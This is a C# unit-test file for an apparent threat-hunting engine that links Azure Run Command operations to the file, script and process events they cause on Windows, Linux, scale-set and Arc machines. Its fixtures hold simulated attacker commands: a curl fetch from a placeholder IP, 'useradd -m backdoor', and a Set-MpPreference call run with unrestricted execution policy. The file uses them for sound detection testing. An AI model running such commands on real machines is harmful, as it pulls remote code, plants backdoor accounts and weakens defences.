using System.Linq;
using RunCommandHunt.Engine.Correlation;
using RunCommandHunt.Engine.Model;
using Xunit;
using static RunCommandHunt.Engine.Tests.Correlation.Build;

namespace RunCommandHunt.Engine.Tests.Correlation
{
    /// <summary>The default finds the Run Command kinds the seeds do not see.</summary>
    public class OtherKindsTests
    {
        private static RunCommandOperation[] Ops(string op, string scope, string correlationId = "k1") =>
            OperationBuilder.Build(new[]
            {
                Activity(0, "Started", "x", correlationId, op: op, authorization: "{\"scope\":\"" + scope + "\"}"),
                Activity(60, "Succeeded", "x", correlationId, op: op, authorization: "{\"scope\":\"" + scope + "\"}"),
            }, CompatibilityMode.None).ToArray();

        [Fact]
        public void Build_WhenTakenTwice_ShouldSaySoNotGiveNothing()
        {
            // The fold lets each group go as its operation is made: a second pass has nothing left to make.
            var fold = new OperationFold(CompatibilityMode.None);
            fold.Add(Activity(0, "Started", "x", "k1", authorization: "{\"scope\":\"" + Scope("vm1") + "\"}"));
            fold.Add(Activity(60, "Succeeded", "x", "k1", authorization: "{\"scope\":\"" + Scope("vm1") + "\"}"));
            var ops = fold.Build();
            Assert.Equal("vm1", Assert.Single(ops).VirtualMachineName);
            Assert.Throws<System.InvalidOperationException>(() => ops.ToList());
            Assert.Throws<System.InvalidOperationException>(() => fold.Build());
            Assert.Throws<System.InvalidOperationException>(() => fold.Add(Activity(90, "Succeeded", "x", "k2")));
        }

        private static DeviceProcessEventRecord Proc(double t, string device, string commandLine, string parentCommandLine) =>
            new DeviceProcessEventRecord { TimeGenerated = At(t), DeviceName = device, ProcessCommandLine = commandLine, InitiatingProcessCommandLine = parentCommandLine };

        [Fact]
        public void Correlate_WhenLinuxShellScript_ShouldTakeChildProcessesAsCommandsAndKeepTheScriptContent()
        {
            var ops = Ops("Microsoft.Compute/virtualMachines/runCommand/action", Scope("lnx-01"));
            var file = new DeviceFileEventRecord
            {
                TimeGenerated = At(5), DeviceName = "lnx-01", FileName = "script.sh", SHA256 = "abc",
                FolderPath = "/var/lib/waagent/run-command/download/3/script.sh", InitiatingProcessFileName = "run-command-extension",
            };
            var script = "/var/lib/waagent/run-command/download/3/script.sh";
            var processes = new[]
            {
                Proc(6, "lnx-01", "/bin/sh -c " + script, "run-command-extension enable"),
                Proc(7, "lnx-01", "curl -s http://198.51.100.7/x", "/bin/sh -c " + script),
                Proc(8, "lnx-01", "useradd -m backdoor", "/bin/sh -c " + script),
                Proc(9, "other", "useradd -m other", "/bin/sh -c " + script),
            };
            var content = new DeviceEventRecord { TimeGenerated = At(6), DeviceName = "lnx-01", ActionType = "ScriptContent", SHA256 = "ABC", ScriptContent = "curl ...\nuseradd -m backdoor" };
            var x = Assert.Single(ScriptExecutionCorrelator.Correlate(ops, new[] { file }, new[] { content }, processes, CompatibilityMode.None));
            Assert.Equal(new[] { "curl -s http://198.51.100.7/x", "useradd -m backdoor" }, x.PowershellScriptCommands);
            Assert.Equal("curl ...\nuseradd -m backdoor", x.ScriptContent);
            Assert.Equal(At(6), x.PowershellExecStart);
        }

        [Fact]
        public void Correlate_WhenScaleSetInstance_ShouldMatchTheInstanceComputerName()
        {
            var ops = Ops("Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommand/action",
                "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/virtualMachineScaleSets/webss/virtualMachines/11");
            Assert.Equal("webss_11", ops.Single().VirtualMachineName);
            Assert.Equal("ScaleSetVirtualMachine", ops.Single().OperationKind);
            var x = Assert.Single(ScriptExecutionCorrelator.Correlate(ops,
                new[] { File(10, "webss00000b.contoso.local", "script1.ps1") },
                new[] { Ps(20, "webss00000b.contoso.local", "script1.ps1", "Get-LocalUser") }, CompatibilityMode.None));
            Assert.Equal(new[] { "Get-LocalUser" }, x.PowershellScriptCommands);
        }

        [Fact]
        public void Correlate_WhenManagedRunCommand_ShouldFollowTheHandlersDownloadAndFullPathRun()
        {
            var ops = Ops("Microsoft.Compute/virtualMachines/runCommands/write",
                "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/app-01/runCommands/fixit");
            var path = @"C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandHandlerWindows\2.0.8\Downloads\fixit\0\script.ps1";
            var file = new DeviceFileEventRecord { TimeGenerated = At(10), DeviceName = "app-01", FileName = "script.ps1", FolderPath = path, InitiatingProcessFileName = "RunCommandHandler.exe" };
            var run = Ps(20, "app-01", "", "Set-MpPreference", commandLine: "powershell.exe -ExecutionPolicy Unrestricted -File \"" + path + "\"");
            var x = Assert.Single(ScriptExecutionCorrelator.Correlate(ops, new[] { file }, new[] { run }, CompatibilityMode.None));
            Assert.Equal("ManagedVirtualMachine", x.OperationKind);
            Assert.Equal(new[] { "Set-MpPreference" }, x.PowershellScriptCommands);
        }

        [Fact]
        public void Correlate_WhenArcMachine_ShouldLinkOnTheMachineName()
        {
            var ops = Ops("Microsoft.HybridCompute/machines/runCommands/write",
                "/subscriptions/s/resourceGroups/g/providers/Microsoft.HybridCompute/machines/onprem-07/runCommands/rc");
            var file = new DeviceFileEventRecord
            {
                TimeGenerated = At(10), DeviceName = "ONPREM-07.corp.local", FileName = "script.ps1",
                FolderPath = @"C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandHandlerWindows\2.0.8\Downloads\rc\0\script.ps1",
                InitiatingProcessFileName = "RunCommandHandler.exe",
            };
            var x = Assert.Single(ScriptExecutionCorrelator.Correlate(ops, new[] { file },
                new[] { Ps(20, "onprem-07.corp.local", "script.ps1", "Get-Service") }, CompatibilityMode.None));
            Assert.Equal("ArcMachine", x.OperationKind);
            Assert.Equal("onprem-07", x.VirtualMachineName);
        }
    }
}
